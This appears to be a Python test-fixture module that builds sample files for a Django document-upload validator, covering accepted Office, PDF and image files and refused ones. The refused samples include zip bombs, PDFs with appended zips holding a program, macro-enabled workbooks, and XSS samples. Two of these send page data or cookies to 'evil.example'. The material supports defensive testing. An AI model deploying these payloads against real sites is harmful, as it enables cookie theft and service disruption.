"""Small, real files of every type the documents app accepts (and some it must refuse),
built in memory for the tests."""

import io
import re
import zipfile
from pathlib import Path

from django.core.files.uploadedfile import SimpleUploadedFile

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="{part}" ContentType="{content_type}"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{target}"/>'
    "</Relationships>"
)


def pdf_with_text(*pages: str) -> bytes:
    """A valid PDF, one page per argument, each showing its text in Helvetica (extractable)."""
    pages = pages or ("Hello",)
    count = len(pages)
    font_id = 3 + 2 * count
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids ["
        + b" ".join(f"{3 + 2 * i} 0 R".encode() for i in range(count))
        + f"] /Count {count} >>".encode(),
    ]
    for index, text in enumerate(pages):
        escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        stream = f"BT /F1 18 Tf 72 720 Td ({escaped}) Tj ET".encode("latin-1")
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents {4 + 2 * index} 0 R "
            f"/Resources << /Font << /F1 {font_id} 0 R >> >> >>".encode()
        )
        objects.append(f"<< /Length {len(stream)} >>\nstream\n".encode() + stream + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def pdf_blank(pages: int = 1) -> bytes:
    """A PDF written by pypdf: `pages` blank pages, no text."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def docx(*paragraphs: str) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    for paragraph in paragraphs or ("Hello from Word",):
        document.add_paragraph(paragraph)
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


def _office_zip(parts: dict[str, str]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return output.getvalue()


def xlsx() -> bytes:
    """A minimal workbook: one sheet, one cell."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return _office_zip(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(part="/xl/workbook.xml", content_type=main),
            "_rels/.rels": ROOT_RELS.format(target="xl/workbook.xml"),
            "xl/workbook.xml": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ),
            "xl/worksheets/sheet1.xml": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Price</t></is></c></row>'
                "</sheetData></worksheet>"
            ),
        }
    )


def pptx() -> bytes:
    """A minimal presentation package."""
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return _office_zip(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(
                part="/ppt/presentation.xml", content_type=main
            ),
            "_rels/.rels": ROOT_RELS.format(target="ppt/presentation.xml"),
            "ppt/presentation.xml": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
                'main"><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/>'
                "</p:presentation>"
            ),
        }
    )


def image(fmt: str = "PNG", size: tuple[int, int] = (1200, 800), color=(200, 30, 30)) -> bytes:
    from PIL import Image

    output = io.BytesIO()
    Image.new("RGB", size, color).save(output, format=fmt)
    return output.getvalue()


def png(**kwargs) -> bytes:
    return image("PNG", **kwargs)


def jpeg(**kwargs) -> bytes:
    return image("JPEG", **kwargs)


TXT = b"Meeting notes\nThe customer wants a discount.\n"
CSV = b"name,email,amount\nAda,ada@example.com,100\nGrace,grace@example.com,200\n"

# Refused ---------------------------------------------------------------------------------

BINARY = bytes(range(256)) * 8  # NUL bytes and no known magic
EXECUTABLE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + (b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 200)
)
CORRUPT_PDF = b"%PDF-1.7\n" + bytes((i * 37 + 11) % 251 for i in range(4000))


def zip_bomb(megabytes: int = 300) -> bytes:
    """A DOCX-looking zip whose word/document.xml is `megabytes` MB of zeros (deflated to a
    few hundred KB)."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", CONTENT_TYPES.format(part="/word/document.xml", content_type="x")
        )
        chunk = b"0" * (1024 * 1024)
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            for _ in range(megabytes):
                entry.write(chunk)
    return output.getvalue()


def zip_declaring_huge_size() -> bytes:
    """A tiny zip whose central directory claims word/document.xml expands to 4 GB."""
    data = bytearray(_office_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}))
    name = b"word/document.xml"
    position = data.find(b"PK\x01\x02")
    while data[position + 46 : position + 46 + len(name)] != name:
        position = data.find(b"PK\x01\x02", position + 4)
    # The central directory record's uncompressed size sits at offset 24.
    data[position + 24 : position + 28] = (0xFFFFFFF0).to_bytes(4, "little")
    return bytes(data)


def upload(name: str, content: bytes, content_type: str = "application/octet-stream"):
    """What Django hands a view: the browser's name and claimed type are the uploader's."""
    return SimpleUploadedFile(name, content, content_type=content_type)


ALLOWED = {
    # name: (builder, expected mime type)
    "proposal.pdf": (lambda: pdf_with_text("Proposal for ACME"), "application/pdf"),
    "blank.pdf": (pdf_blank, "application/pdf"),
    "contract.docx": (
        docx,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "prices.xlsx": (xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "deck.pptx": (
        pptx,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "logo.png": (png, "image/png"),
    "photo.jpg": (jpeg, "image/jpeg"),
    "notes.txt": (lambda: TXT, "text/plain"),
    "contacts.csv": (lambda: CSV, "text/csv"),
}


# Hostile text: markup a browser would run if the file were ever rendered as a page ---------

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
    b"<script>fetch('/documents/').then(r => r.text()).then(t => navigator.sendBeacon("
    b"'https://evil.example/', t))</script>"
    b'<rect width="64" height="64" fill="red"/></svg>\n'
)
SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>\n'
HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Invoice 2041</title></head>\n"
    b"<body><p>Please pay the invoice below.</p>"
    b"<script>document.location = 'https://evil.example/?c=' + document.cookie</script>"
    b"</body></html>\n"
)
HTML_FRAGMENT = b"\n  <p>Dear customer,</p>\n<img src=x onerror=alert(1)>\n"
XML_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<order xmlns:h="http://www.w3.org/1999/xhtml">'
    b"<id>2041</id><h:script>alert(1)</h:script></order>\n"
)
PLAIN_XML = b'<?xml version="1.0"?>\n<order><id>2041</id><total>100</total></order>\n'
# A page of harmless notes hiding a script far past any sniffed sample.
NOTES_HIDING_A_SCRIPT = b"Meeting notes, all fine.\n" * 8000 + b"<script>alert(1)</script>\n"
# Text that only talks about markup stays text.
TEXT_ABOUT_MARKUP = b"If a < b and c > d, use the <b> tag; 3<4.\nPrice <100 EUR\n"


def utf16(text: str, byteorder: str = "le") -> bytes:
    """What Notepad saves as "Unicode" (UTF-16 little-endian with its byte-order mark), or
    big-endian."""
    return ("\ufeff" + text).encode("utf-16-le" if byteorder == "le" else "utf-16-be")


def utf16_without_bom(text: str, byteorder: str = "le") -> bytes:
    """UTF-16 as some editors and exports save it: without the byte-order mark."""
    return text.encode("utf-16-le" if byteorder == "le" else "utf-16-be")


# Binary data with NUL bytes in every other place, as UTF-16 text has them: the bytes 01 00
# to 1f 00 are control characters in UTF-16, not text.
ALTERNATING_NULS = b"".join(bytes([byte, 0]) for byte in list(range(1, 9)) * 64)


# PDFs: real files of real producers (tests/documents/files/README.md), and hostile ones ----

FILES = Path(__file__).parent / "files"
REAL_PDFS = [
    "ghostscript-2pages.pdf",
    "qpdf-linearized.pdf",
    "qpdf-xref-stream.pdf",
    "chromium-print.pdf",
    "qpdf-aes256-restrictions.pdf",
]


def file(name: str) -> bytes:
    return (FILES / name).read_bytes()


# The start of a Linux program: what a zip appended to a PDF smuggles in.
ELF_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x90" * 400


def _zip_holding_a_program() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("invoice-viewer", ELF_PROGRAM)
    return output.getvalue()


def pdf_with_appended_zip() -> bytes:
    """A valid PDF with a zip holding a program after its %%EOF: opened as a PDF it shows an
    invoice, renamed to .zip it unpacks the program."""
    return pdf_with_text("Invoice 2041") + _zip_holding_a_program()


def pdf_with_appended_zip_and_a_new_end() -> bytes:
    """The same with a fake `startxref ... %%EOF` after the zip, so the file ends like a PDF."""
    pdf = pdf_with_text("Invoice 2041")
    startxref = pdf[pdf.rindex(b"startxref") :]
    return pdf + _zip_holding_a_program() + b"\n" + startxref


def pdf_with_trailing_whitespace() -> bytes:
    return pdf_with_text("Invoice 2041") + b"\r\n \n\x00\x00"


def pdf_with_shifted_xref() -> bytes:
    """Every offset of the cross-reference table 7 bytes off (a file whose line endings were
    converted, or a sloppy generator): pypdf finds the objects by searching for them."""
    pdf = pdf_with_text("Proposal for ACME")
    head, table = pdf.split(b"xref\n", 1)
    table = re.sub(rb"(\d{10}) 00000 n", lambda m: b"%010d 00000 n" % (int(m[1]) + 7), table)
    return head + b"xref\n" + table


def pdf_with_wrong_startxref() -> bytes:
    """`startxref` pointing into the middle of the file: pypdf rebuilds the whole table."""
    pdf = pdf_with_text("Proposal for ACME")
    return re.sub(rb"startxref\n\d+", b"startxref\n40", pdf)


def pdf_without_xref() -> bytes:
    pdf = pdf_with_text("Proposal for ACME")
    return pdf[: pdf.index(b"xref\n")] + pdf[pdf.index(b"trailer") :]


def pdf_updated_incrementally() -> bytes:
    """A PDF edited by appending (a second cross-reference section with /Prev), as a viewer
    saves a filled-in form or a signature."""
    from pypdf import PdfWriter

    original = pdf_with_text("Proposal for ACME")
    writer = PdfWriter(io.BytesIO(original), incremental=True)
    writer.add_metadata({"/Title": "Signed proposal"})
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


# Macro-enabled Office files: what Excel saves as .xlsm, PowerPoint as .pptm ---------------

VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE file: the VBA code


def xlsm() -> bytes:
    """A workbook with a VBA project, as Excel saves it (.xlsm)."""
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    package = _office_parts(xlsx())
    package["[Content_Types].xml"] = CONTENT_TYPES.format(
        part="/xl/workbook.xml", content_type=main
    ).replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    package["xl/vbaProject.bin"] = VBA_PROJECT
    return _office_zip(package)


def pptm() -> bytes:
    """A presentation with a VBA project (.pptm)."""
    main = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
    package = _office_parts(pptx())
    package["[Content_Types].xml"] = CONTENT_TYPES.format(
        part="/ppt/presentation.xml", content_type=main
    )
    package["ppt/vbaProject.bin"] = VBA_PROJECT
    return _office_zip(package)


def xlsx_hiding_a_vba_project() -> bytes:
    """An .xlsm whose content types were edited to say XLSX: the VBA project is still in it."""
    package = _office_parts(xlsx())
    package["xl/vbaProject.bin"] = VBA_PROJECT
    return _office_zip(package)


def xlsx_with_an_excel4_macro_sheet() -> bytes:
    package = _office_parts(xlsx())
    package["xl/macrosheets/sheet1.xml"] = "<xm:macrosheet/>"
    return _office_zip(package)


def _office_parts(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# Office files with text where a reader looks for it --------------------------------------


def xlsx_workbook() -> bytes:
    """A workbook as openpyxl (and Excel) writes it: two sheets, text, numbers, a date."""
    from datetime import date

    from openpyxl import Workbook

    workbook = Workbook()
    prices = workbook.active
    prices.title = "Prices"
    prices.append(["Product", "Seats", "Price"])
    prices.append(["Initech rollout", 40, 12.5])
    prices["E9"] = "Discount approved"  # far from the others: empty cells in between
    contacts = workbook.create_sheet("Contacts")
    contacts.append(["Ada Lovelace", "ada@example.com", date(2026, 3, 1)])
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def docx_with_header_and_footer(body: str = "Master services agreement") -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph(body)
    section = document.sections[0]
    section.header.paragraphs[0].text = "ACME Corp confidential"
    section.footer.paragraphs[0].text = "Contract 2041, page footer"
    output = io.BytesIO()
    document.save(output)
    return output.getvalue()


PRESENTATION_NS = "http://schemas.openxmlformats.org/presentationml/2006/main"
DRAWING_NS = "http://schemas.openxmlformats.org/drawingml/2006/main"
RELATIONSHIPS_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _slide(*paragraphs: str) -> str:
    body = "".join(
        f"<a:p><a:r><a:t>{text[: len(text) // 2]}</a:t></a:r>"
        f"<a:r><a:t>{text[len(text) // 2 :]}</a:t></a:r></a:p>"
        for text in paragraphs
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<p:sld xmlns:p="{PRESENTATION_NS}" xmlns:a="{DRAWING_NS}"><p:cSld><p:spTree>'
        f"<p:sp><p:txBody>{body}</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    )


def pptx_with_slides(*, notes: bool = False) -> bytes:
    """A presentation of two slides whose order is not their file names' (slide2.xml comes
    first, as after moving a slide in PowerPoint); each paragraph split over two runs. With
    `notes`, the first slide shown has speaker notes, as PowerPoint writes them: a notes slide
    (linked from the slide's relationships) with the slide image, the notes body and the slide
    number placeholders."""
    main = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    slide = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
    types = CONTENT_TYPES.format(part="/ppt/presentation.xml", content_type=main).replace(
        "</Types>",
        "".join(
            f'<Override PartName="/ppt/slides/slide{n}.xml" ContentType="{slide}"/>' for n in (1, 2)
        )
        + "</Types>",
    )
    slide_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide"
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": ROOT_RELS.format(target="ppt/presentation.xml"),
        "ppt/presentation.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<p:presentation xmlns:p="{PRESENTATION_NS}" xmlns:r="{RELATIONSHIPS_NS}">'
            '<p:sldIdLst><p:sldId id="256" r:id="rId7"/><p:sldId id="257" r:id="rId3"/>'
            '</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/></p:presentation>'
        ),
        "ppt/_rels/presentation.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId3" Type="{slide_type}" '
            f'Target="slides/slide1.xml"/><Relationship Id="rId7" Type="{slide_type}" '
            'Target="/ppt/slides/slide2.xml"/></Relationships>'
        ),
        "ppt/slides/slide1.xml": _slide("Pricing", "40 seats at 12.50 EUR"),
        "ppt/slides/slide2.xml": _slide("Initech rollout", "Proposal for ACME"),
    }
    if notes:
        parts.update(_speaker_notes("ppt/slides/slide2.xml", "Mention the pilot", "Ask for Q3"))
    return _office_zip(parts)


def _speaker_notes(slide_part: str, *paragraphs: str) -> dict[str, str]:
    notes_type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/notesSlide"
    folder, name = slide_part.rsplit("/", 1)

    def placeholder(kind: str, body: str = "") -> str:
        text = f"<p:txBody><a:bodyPr/>{body}</p:txBody>" if body else ""
        return (
            f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="{kind}"/><p:cNvSpPr/>'
            f'<p:nvPr><p:ph type="{kind}"/></p:nvPr></p:nvSpPr><p:spPr/>{text}</p:sp>'
        )

    body = "".join(
        f'<a:p><a:r><a:rPr lang="en-US"/><a:t>{text}</a:t></a:r></a:p>' for text in paragraphs
    )
    number = '<a:p><a:fld id="{B1}" type="slidenum"><a:t>1</a:t></a:fld></a:p>'
    return {
        f"{folder}/_rels/{name}.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId2" Type="{notes_type}" '
            'Target="../notesSlides/notesSlide1.xml"/></Relationships>'
        ),
        "ppt/notesSlides/notesSlide1.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<p:notes xmlns:p="{PRESENTATION_NS}" xmlns:a="{DRAWING_NS}"><p:cSld><p:spTree>'
            + placeholder("sldImg")
            + placeholder("body", body)
            + placeholder("sldNum", number)
            + "</p:spTree></p:cSld></p:notes>"
        ),
    }
